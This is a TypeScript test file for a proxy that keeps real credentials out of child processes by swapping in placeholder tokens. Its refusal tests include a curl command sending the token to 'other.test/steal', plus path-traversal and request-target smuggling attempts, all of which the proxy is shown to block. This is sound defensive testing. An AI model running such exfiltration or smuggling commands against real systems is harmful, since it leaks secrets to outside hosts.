/**
 * Proxy mode end to end with real clients nobody on the project wrote (Debian's curl,
 * git and Python requests, gh, and undici's fetch in Node): the child's environment holds
 * only a placeholder; the upstream HTTPS server (its own test CA, trusted by the proxy
 * only) receives the real credential; the echoed credential comes back to the child as
 * the placeholder; a placeholder on its way somewhere the item does not allow is
 * refused and recorded; a client without the per-run proxy credential is refused.
 */
import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { personalPolicy } from '../../../src/core/policy';
import { createMemoryKeychain } from '../../../src/main/keychain/keychain.memory';
import { loadOrCreateDeviceCa } from '../../../src/main/proxy/ca';
import type { ProxyRecord } from '../../../src/main/proxy/proxy';
import { startProxiedRun, type ProxiedRun } from '../../../src/main/proxy/run-env';
import { createTestCa, runChild, startUpstream, type Upstream } from './harness';

const SECRET = 'ghp_RealSecretValue0123456789abcdefABCD';
let api: Upstream;
let other: Upstream;
let run: ProxiedRun;
let env: Record<string, string>;
let placeholder: string;
const records: ProxyRecord[] = [];

beforeAll(async () => {
  const testCa = await createTestCa();
  api = await startUpstream(testCa, ['api.test']);
  other = await startUpstream(testCa, ['other.test']);
  const ca = await loadOrCreateDeviceCa(createMemoryKeychain());
  run = await startProxiedRun(
    [
      {
        env: 'TOKEN',
        itemId: 'AAAAAAAAAAAAAAAAAAAAAA',
        name: 'GitHub',
        secret: SECRET,
        rules: ['GET,POST https://api.test/echo/*', 'GET https://api.test/repo.git/**', 'GET https://api.test/api/v3/**'],
      },
    ],
    {
      ca,
      command: 'test-client',
      policy: () => personalPolicy(),
      record: async (r) => void records.push(r),
      otherHosts: 'tunnel',
      upstreamCa: [testCa.certPem],
      // The tunnelled host is reached by the child's own TLS: it must trust that host's CA (a public CA in real life).
      extraChildCa: [testCa.certPem],
      dial: async (host) => {
        if (host === 'api.test') return { address: '127.0.0.1', port: api.port };
        if (host === 'other.test') return { address: '127.0.0.1', port: other.port };
        throw new Error('no such host');
      },
    },
  );
  placeholder = run.placeholders.get('AAAAAAAAAAAAAAAAAAAAAA')!;
  env = { ...run.env, HOME: mkdtempSync(path.join(os.tmpdir(), 'lk-home-')) };
}, 30_000);
afterAll(async () => {
  await run?.close();
  await api?.close();
  await other?.close();
});

const sh = (script: string) => runChild('sh', ['-c', script], env);

describe('the child', () => {
  it('holds a placeholder of the same shape, never the secret', async () => {
    expect(placeholder).toMatch(/^ghp_[A-Za-z0-9]{35}$/);
    expect(placeholder).not.toBe(SECRET);
    const r = await sh('env');
    expect(r.stdout).toContain(`TOKEN=${placeholder}`);
    expect(r.stdout).not.toContain(SECRET);
  });
});

describe('real clients through the proxy', () => {
  it('curl: the server gets the secret, curl sees the placeholder echoed back', async () => {
    const r = await sh('curl -sS -i -H "Authorization: Bearer $TOKEN" https://api.test/echo/curl');
    expect(r.stderr).toBe('');
    expect(api.requests.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(r.stdout).toContain(`seen GET /echo/curl Bearer ${placeholder}`);
    expect(r.stdout.toLowerCase()).toContain(`x-seen: bearer ${placeholder.toLowerCase()}`);
    expect(r.stdout).not.toContain(SECRET);
    expect(records.at(-1)).toMatchObject({ action: 'proxy.swap', command: 'test-client', origin: 'https://api.test', method: 'GET', itemId: 'AAAAAAAAAAAAAAAAAAAAAA' });
    expect(JSON.stringify(records)).not.toContain(SECRET);
  });

  it('Python requests: POST with the token, the same swap both ways', async () => {
    const r = await runChild(
      'python3',
      ['-c', "import os,requests; r=requests.post('https://api.test/echo/py', headers={'Authorization':'token '+os.environ['TOKEN']}, data='x'); print(r.status_code, r.text)"],
      env,
    );
    expect(r.stderr).toBe('');
    expect(api.requests.at(-1)!.headers.authorization).toBe(`token ${SECRET}`);
    expect(r.stdout).toContain(`200 seen POST /echo/py token ${placeholder}`);
    expect(r.stdout).not.toContain(SECRET);
  });

  it('git ls-remote over HTTPS with the token in a header', async () => {
    const r = await sh('git -c http.extraHeader="Authorization: Bearer $TOKEN" ls-remote https://api.test/repo.git');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/refs\/heads\/main/);
    expect(api.requests.at(-1)!.url).toBe('/repo.git/info/refs?service=git-upload-pack');
    expect(api.requests.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  it('git with the token as a Basic password (inside base64) is swapped too', async () => {
    const r = await sh('git -c http.extraHeader="Authorization: Basic $(printf "x-access-token:%s" "$TOKEN" | base64 -w0)" ls-remote https://api.test/repo.git');
    expect(r.code, r.stderr).toBe(0);
    expect(api.requests.at(-1)!.headers.authorization).toBe(`Basic ${Buffer.from(`x-access-token:${SECRET}`).toString('base64')}`);
  });

  it('Node (undici fetch with EnvHttpProxyAgent)', async () => {
    const r = await runChild(process.execPath, [path.resolve('test/unit/proxy/fixtures/node-client.mjs'), 'https://api.test/echo/node'], env);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe(`200 seen GET /echo/node Bearer ${placeholder}\n`);
    expect(api.requests.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  it('gh api with GH_HOST pointing at the test server', async () => {
    const r = await runChild('gh', ['api', '/user'], { ...env, GH_HOST: 'api.test', GH_ENTERPRISE_TOKEN: placeholder, GH_NO_UPDATE_NOTIFIER: '1', GH_CONFIG_DIR: env.HOME! });
    expect(r.code, r.stderr).toBe(0);
    expect(api.requests.at(-1)!.url).toBe('/api/v3/user');
    expect(api.requests.at(-1)!.headers.authorization).toBe(`token ${SECRET}`);
    expect(r.stdout).toContain(placeholder);
    expect(r.stdout).not.toContain(SECRET);
  });
});

describe('refusals', () => {
  it('a path or method the item does not allow: refused before the server, and recorded', async () => {
    const before = api.requests.length;
    const a = await sh('curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $TOKEN" https://api.test/admin/keys');
    const b = await sh('curl -sS -o /dev/null -w "%{http_code}" -X DELETE -H "Authorization: Bearer $TOKEN" https://api.test/echo/x');
    const c = await sh('curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $TOKEN" https://api.test/echo/../admin');
    expect([a.stdout, b.stdout, c.stdout]).toEqual(['403', '403', '403']);
    expect(api.requests.length).toBe(before);
    expect(records.filter((r) => r.action === 'proxy.refused_destination').map((r) => r.method)).toEqual(expect.arrayContaining(['GET', 'DELETE']));
  });

  it('a placeholder in a plain-HTTP request to another host is refused and recorded', async () => {
    const r = await sh('curl -sS -o /dev/null -w "%{http_code}" "http://other.test/steal?t=$TOKEN"');
    expect(r.stdout).toBe('403');
    expect(records.at(-1)).toMatchObject({ action: 'proxy.refused_destination', origin: 'http://other.test', method: 'GET' });
  });

  it('another HTTPS host is tunnelled untouched: it sees only the placeholder', async () => {
    const r = await sh('curl -sS -H "Authorization: Bearer $TOKEN" https://other.test/x');
    expect(r.stderr).toBe('');
    expect(other.requests.at(-1)!.headers.authorization).toBe(`Bearer ${placeholder}`);
  });

  it('inside a tunnel, an absolute URL to another host is refused', async () => {
    const before = other.requests.length;
    const r = await sh('curl -sS -o /dev/null -w "%{http_code}" --request-target "https://other.test/x" -H "Authorization: Bearer $TOKEN" https://api.test/echo/x');
    expect(r.stdout).toBe('400');
    expect(other.requests.length).toBe(before);
  });

  it('a client without the per-run proxy credential is refused (407)', async () => {
    const before = api.requests.length;
    const bare = `http://127.0.0.1:${run.proxy.port}`;
    const r = await runChild('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_connect}', '--proxy', bare, '--cacert', env.CURL_CA_BUNDLE!, 'https://api.test/echo/x'], {
      HOME: env.HOME!,
    });
    expect(r.stdout).toBe('407');
    const wrong = `http://latchkey:wrong@127.0.0.1:${run.proxy.port}`;
    const w = await runChild('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', '--proxy', wrong, 'http://api.test/echo/x'], { HOME: env.HOME! });
    expect(w.stdout).toBe('407');
    expect(api.requests.length).toBe(before);
    expect(records.at(-1)!.action).toBe('proxy.refused_unauthenticated');
  });
});
